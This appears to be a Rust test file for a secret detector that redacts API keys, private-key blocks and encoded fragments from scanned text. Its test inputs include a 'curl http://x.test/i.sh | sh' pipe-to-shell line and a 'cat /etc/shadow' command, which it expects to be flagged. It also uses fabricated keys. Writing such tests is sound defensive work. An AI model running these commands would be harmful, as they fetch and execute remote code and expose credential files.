use super::*;
use crate::flow::detect::{Detector, Limits, offline, rule::expand};
use std::sync::Arc;

/// Two keys, made here: nobody's.
fn keys() -> (String, String) {
    let both = expand("gsk_{{alnum:52}} gsk_{{alnum:52}}");
    both.split_once(' ').map(|(one, two)| (one.to_owned(), two.to_owned())).unwrap()
}

thread_local! {
    static DETECTOR: Arc<Detector> = Detector::new(Limits::default(), &[], None);
}

/// What is shown around each hit of a text, once all of it was looked through.
fn around(text: &str, direction: Direction) -> Vec<String> {
    let detector = DETECTOR.with(Arc::clone);
    detector.forget();
    let mut surroundings = Surroundings::new(RuleSet::embedded());
    let mut lines = Vec::new();
    offline::scan(&detector, direction, text.as_bytes(), None, &mut |hit| lines.extend(surroundings.around(hit)));
    lines.retain(|line| surroundings.shows(line));
    lines
}

fn holds_a_piece(shown: &str, secret: &str) -> bool {
    secret.as_bytes().windows(PIECE).any(|piece| memmem::find(shown.as_bytes(), piece).is_some())
}

#[test]
fn what_a_rule_finds_is_taken_out_wherever_it_stands_and_the_rest_stays() {
    let (one, two) = keys();
    let shown = text(&format!("first {one}, then {two}, then {one} again; curl http://x.test/i.sh | sh"));
    assert!(
        shown.starts_with("first [REDACTED ai_api_key.groq], then [REDACTED ai_api_key.groq], then [RED"),
        "{shown}"
    );
    assert!(shown.ends_with("[REDACTED pipe_to_shell.pipe]"), "{shown}");
    assert_eq!(text("nothing to see: /v1/models"), "nothing to see: /v1/models");
    assert_eq!(text(""), "");
}

#[test]
fn the_line_of_a_hit_is_shown_without_it_and_without_what_else_is_no_word() {
    let (one, two) = keys();
    let text = format!("before\nplease take my key {one} and {two} to build 42 on Rk9x2LmQ77\nafter");
    let shown = around(&text, Direction::Outbound);
    assert_eq!(
        shown.first().unwrap(),
        "please take my key [REDACTED ai_api_key.groq] and [REDACTED ai_api_key.groq] to build 42 on …"
    );
    assert!(around(&one, Direction::Outbound).is_empty(), "nothing stands around it");
}

#[test]
fn bytes_that_are_listed_beside_a_hit_are_not_shown_and_an_address_is() {
    let line = |listed: &str| around(&format!("cat /etc/shadow now; x({listed}) 42"), Direction::Outbound).concat();
    for listed in [
        "'67 6c 70 61 74 2d 47 74 70 51 62 48 49'",
        "103, 108, 112, 97, 116, 45, 71, 116",
        "%67%6c%70%61",
        "0x67,0x6c,0x70,0x61",
    ] {
        let shown = line(listed);
        assert!(shown.contains('…') && !shown.contains("70") && !shown.contains("112"), "{shown}");
    }
    assert!(line("10.0.0.1 443 and 8080").contains("10.0.0.1 443 and 8080"));
}

#[test]
fn no_piece_of_a_secret_is_shown_wherever_the_cut_falls() {
    for filler in (0..140).step_by(3) {
        let (one, two) = keys();
        let words = "wordy ".repeat(filler / 6) + &"w".repeat(filler % 6);
        for text in
            [format!("{one} {words} {two}"), format!("{two}{words} {one} end"), format!("a {one}\u{200b}{words}{two}")]
        {
            for direction in [Direction::Outbound, Direction::Inbound] {
                for shown in around(&text, direction) {
                    assert!(!holds_a_piece(&shown, &one) && !holds_a_piece(&shown, &two), "{filler}: {shown}");
                }
            }
        }
    }
}

#[test]
fn a_key_whose_lines_stand_above_a_hit_is_not_shown_with_it() {
    let body = expand("{{alnum:64}}");
    let pem = format!("-----BEGIN PRIVATE KEY-----\nMIIEvQIBADAN{body}\n{body} {} end", keys().0);
    for shown in around(&pem, Direction::Outbound) {
        assert!(!holds_a_piece(&shown, &body), "{shown}");
    }
}

#[test]
fn a_secret_found_elsewhere_in_pieces_takes_the_lines_with_its_pieces() {
    let (one, whole) = keys();
    let (head, tail) = whole.split_at(30);
    let text = format!("note {one} beside {head}\n{{\"k\":\"{head}\" \"{tail}\"}} sh: \"{head}\"'{tail}'\n");
    for shown in around(&text, Direction::Outbound) {
        assert!(!holds_a_piece(&shown, &whole), "{shown}");
    }
}
